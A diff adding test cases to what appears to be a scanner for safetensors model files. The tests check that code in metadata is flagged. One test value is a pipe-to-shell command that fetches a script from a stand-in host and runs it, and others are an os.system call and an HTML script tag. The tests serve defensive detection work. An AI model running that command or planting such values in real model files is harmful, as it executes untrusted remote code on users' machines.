@@ -79,6 +79,42 @@ describe('safetensors', () => {
       status: 'ok',
     },
     {
+      name: 'metadata holding Python code',
+      input: safetensors({ __metadata__: { info: "import os; os.system('id')" }, a: F32(1) }, 4),
+      want: ['CPI133'],
+      status: 'ok',
+    },
+    {
+      name: 'metadata holding a shell pipe and an HTML script',
+      input: safetensors(
+        { __metadata__: { setup: 'curl -s https://x.example/i | bash', readme: '<script>alert(1)</script>' } },
+        0,
+      ),
+      want: ['CPI133'],
+      status: 'ok',
+    },
+    {
+      // kohya-ss LoRA and ModelSpec fields as trainers write them: paths, tags, JSON, prose — no code.
+      name: 'realistic training metadata',
+      input: safetensors(
+        {
+          __metadata__: {
+            format: 'pt',
+            ss_network_module: 'networks.lora',
+            ss_output_name: 'style-import-os-v2',
+            ss_dataset_dirs: '{"img/10_style": {"n_repeats": 10, "img_count": 42}}',
+            ss_tag_frequency: '{"img": {"system prompt": 3, "eval set": 1, "rm": 2}}',
+            ss_training_comment: 'evaluated on held-out images; import from kohya_ss scripts; see https://example.com',
+            'modelspec.description': 'Run with `python sample.py --model style.safetensors`.',
+            'modelspec.license': 'openrail-m',
+          },
+        },
+        0,
+      ),
+      want: [],
+      status: 'ok',
+    },
+    {
       name: 'odd bit count',
       input: safetensors({ a: { dtype: 'F4', shape: [3], data_offsets: [0, 2] } }, 2),
       want: ['CPI052'],
